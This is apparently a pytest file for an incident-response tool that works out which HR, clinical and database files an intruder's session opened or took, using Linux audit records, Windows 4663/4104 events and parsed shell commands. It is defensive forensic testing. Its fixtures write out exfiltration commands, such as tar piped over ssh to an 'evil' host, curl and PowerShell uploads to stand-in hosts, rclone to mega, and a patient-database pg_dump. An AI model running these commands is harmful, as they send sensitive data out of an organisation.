"""What was reached as the logs of machines tell it: Linux audit, object access and scripts of Windows; who did it is known by the session."""

import json
from datetime import UTC, date, datetime

import pytest

from stanch.cause.actor import Actor
from stanch.cause.commands import LONGEST_SCRIPT, commanded
from stanch.cause.places import Places
from stanch.cause.reach import Joining
from stanch.cause.timeline import of_texts
from stanch.records import Reach, Window

BAD = "203.0.113.9"
EVIDENCE = (
    "evidence/share/hr/pay.xlsx",
    "evidence/share/hr/notes.docx",
    "evidence/share/clinical/x.pdf",
    "evidence/share/it/list.csv",
    "evidence/practice.sql#public.patients",
)


def reach(text: str, *, entered: datetime, user: str = "ops") -> Reach:
    joining = Joining(Actor({BAD}, {user}, [], entered), Places.of(EVIDENCE))
    for _ in joining.watching(of_texts([("log", text)], date(2026, 4, 1))):
        pass
    return joining.reach(Window(entered, entered), (), ())


def audit(serial: int, *records: str, at: int = 1772600767) -> str:
    kinds = [record.partition(" ") for record in records]
    return "".join(f"type={kind} msg=audit({at + serial}.100:{serial}): {rest}\n" for kind, _, rest in kinds)


SIGNED_IN = audit(
    1,
    f'USER_LOGIN pid=311 uid=0 auid=1000 ses=3 msg=\'op=login acct="ops" exe="/usr/sbin/sshd" hostname={BAD} addr={BAD} terminal=ssh res=success\'',
)
ELSEWHERE = audit(
    2,
    'USER_LOGIN pid=312 uid=0 auid=1001 ses=4 msg=\'op=login acct="ann" exe="/usr/sbin/sshd" hostname=192.0.2.7 addr=192.0.2.7 terminal=ssh res=success\'',
)


def syscall(session: int, auid: int, success: str = "yes") -> str:
    return f'SYSCALL arch=c000003e syscall=257 success={success} exit=3 ppid=1 pid=9 auid={auid} uid=0 gid=0 tty=pts0 ses={session} comm="tar" exe="/usr/bin/tar" key=(null)'


ENTERED = datetime.fromtimestamp(1772600760, UTC)


def test_linux_audit_tells_what_the_intruder_s_session_opened_also_days_later() -> None:
    days = 86_400 * 3
    text = (
        SIGNED_IN
        + ELSEWHERE
        + audit(
            10, syscall(3, 1000), 'CWD cwd="/srv/share"', 'PATH item=0 name="hr/pay.xlsx" inode=7 nametype=NORMAL', at=1772600767 + days
        )
        + audit(11, syscall(3, 1000, "no"), 'CWD cwd="/srv/share"', 'PATH item=0 name="clinical/x.pdf" nametype=NORMAL')
        + audit(12, syscall(4, 1001), 'CWD cwd="/"', 'PATH item=0 name="/srv/share/hr/notes.docx" nametype=NORMAL')
        + audit(13, syscall(3, 1000), "CWD cwd=2F7372762F7368617265", "PATH item=0 name=69742F6C6973742E637376 nametype=NORMAL")
    )
    found = reach(text, entered=ENTERED)
    assert found.of("evidence/share/hr/pay.xlsx") == "accessed"
    assert found.of("evidence/share/it/list.csv") == "accessed", "names in hexadecimal digits are read"
    assert found.of("evidence/share/clinical/x.pdf") == "not_known", "what was refused was not opened"
    assert found.of("evidence/share/hr/notes.docx") == "not_known", "somebody else's session"


def test_a_command_of_audit_packs_and_another_sends() -> None:
    text = (
        SIGNED_IN
        + audit(10, syscall(3, 1000), 'EXECVE argc=4 a0="tar" a1="czf" a2="/tmp/.x.tgz" a3="/srv/share/hr"')
        + audit(11, syscall(3, 1000), 'EXECVE argc=4 a0="curl" a1="-T" a2="/tmp/.x.tgz" a3="https://files.example.net/"')
        + audit(12, syscall(3, 1000), 'EXECVE argc=3 a0="zip" a1="/tmp/y.zip" a2="/srv/share/clinical/x.pdf"')
    )
    found = reach(text, entered=ENTERED)
    assert found.of("evidence/share/hr/pay.xlsx") == "acquired"
    assert found.of("evidence/share/clinical/x.pdf") == "accessed"


def windows(*records: dict[str, object]) -> str:
    shared = {"Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing", "Computer": "FS1.example.com"}
    return "\n".join(
        json.dumps({**shared, "SystemTime": f"2026-03-04T05:{number:02}:07Z", "EventRecordID": number, **record})
        for number, record in enumerate(records)
    )


LOGON = {"EventID": 4624, "TargetUserName": "svc", "TargetDomainName": "EX", "TargetLogonId": "0x4f2a", "LogonType": 3, "IpAddress": BAD}
OTHER = {
    "EventID": 4624,
    "TargetUserName": "svc",
    "TargetDomainName": "EX",
    "TargetLogonId": "0x77",
    "LogonType": 3,
    "IpAddress": "192.0.2.7",
}


def touched(name: str, session: str = "0x4f2a", rights: str = "%%4416", mask: str = "0x1", sort: str = "File") -> dict[str, object]:
    return {
        "EventID": 4663, "SubjectUserName": "svc", "SubjectLogonId": session, "ObjectType": sort, "ObjectName": name, "AccessList": rights,
        "AccessMask": mask,
    }  # fmt: skip


def test_object_access_counts_where_it_reads_and_is_the_intruder_s_session() -> None:
    text = windows(
        LOGON,
        OTHER,
        touched("D:\\share\\hr\\pay.xlsx"),
        touched("D:\\share\\clinical\\x.pdf", rights="%%1537"),
        touched("D:\\share\\hr\\notes.docx", session="0x77"),
        touched("\\REGISTRY\\MACHINE\\SAM", sort="Key"),
        touched("D:\\share\\it\\list.csv", rights="", mask="0x20000"),
    )
    found = reach(text, entered=datetime(2026, 3, 4, 5, 0, tzinfo=UTC), user="svc")
    assert found.of("evidence/share/hr/pay.xlsx") == "accessed"
    for place in ("clinical/x.pdf", "hr/notes.docx", "it/list.csv"):
        assert found.of(f"evidence/share/{place}") == "not_known", place
    assert found.elsewhere_count == 0, "a key of the registry is no file that was taken"


SCRIPT = """$src = 'D:\\share\\hr'
$out = "C:\\Windows\\Temp\\u.zip"
Compress-Archive -Path $src -DestinationPath $out -Force
Invoke-RestMethod -Uri https://files.example.net/u -Method Put -InFile $out
"""


def test_a_script_block_that_packs_and_sends() -> None:
    shared = {"Channel": "Microsoft-Windows-PowerShell/Operational", "Provider_Name": "Microsoft-Windows-PowerShell", "Computer": "FS1"}
    block = {
        **shared,
        "EventID": 4104,
        "SystemTime": "2026-03-04T05:30:07Z",
        "EventRecordID": 5,
        "ScriptBlockText": SCRIPT,
        "User": "EX\\svc",
    }
    found = reach(windows(LOGON) + "\n" + json.dumps(block), entered=datetime(2026, 3, 4, 5, 0, tzinfo=UTC), user="svc")
    assert found.of("evidence/share/hr/pay.xlsx") == "acquired"
    assert found.of("evidence/share/clinical/x.pdf") == "not_known"


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("rar a -hpS3cret C:\\t\\h.rar D:\\share\\hr\\*", {("D:/share/hr", "accessed", "h.rar")}),
        (
            'cmd.exe /c "7z a C:\\t\\h.7z D:\\share\\hr && rclone copy C:\\t\\h.7z mega:x"',
            {("D:/share/hr", "accessed", "h.7z"), ("C:/t/h.7z", "acquired", "")},
        ),
        ("bash -c 'tar czf - /srv/share/hr | ssh evil@203.0.113.9 \"cat > h.tgz\"'", {("/srv/share/hr", "acquired", "")}),
        ("sudo -u postgres pg_dump practice > /tmp/p.sql", {("practice", "accessed", "p.sql")}),
        ("curl -F file=@/srv/share/hr/pay.xlsx https://x.example.net", {("/srv/share/hr/pay.xlsx", "acquired", "")}),
        ("powershell -Command Compress-Archive -Path D:\\share\\hr -DestinationPath C:\\t\\h.zip", {("D:/share/hr", "accessed", "h.zip")}),
        ("[IO.Compression.ZipFile]::CreateFromDirectory('D:\\share\\hr', 'C:\\t\\h.zip')", {("D:/share/hr", "accessed", "h.zip")}),
        (
            "(New-Object Net.WebClient).UploadFile('https://x.example.net/u','D:\\share\\hr\\pay.xlsx')",
            {("D:/share/hr/pay.xlsx", "acquired", "")},
        ),
        ("robocopy D:\\share E:\\ /E", {("D:/share", "acquired", "")}),
    ],
)
def test_what_commands_name(command: str, named: set[tuple[str, str, str]]) -> None:
    told = {(name, contact, parcel) for _, name, contact, _, parcel in commanded(command)}
    assert named <= told


@pytest.mark.parametrize(
    "command",
    [
        "",
        "'",
        '"' * 5000,
        "bash -c " * 400,
        "$a = '" + "x" * 100_000,
        "; " * 50_000,
        "| | |",
        "sudo",
        "cmd /c",
        "\x00\x1b[31m",
        "tar " + "a/" * 40_000,
    ],
)
def test_hostile_commands_end_and_name_little(command: str) -> None:
    assert len(list(commanded(command[: LONGEST_SCRIPT * 2]))) < 2_000
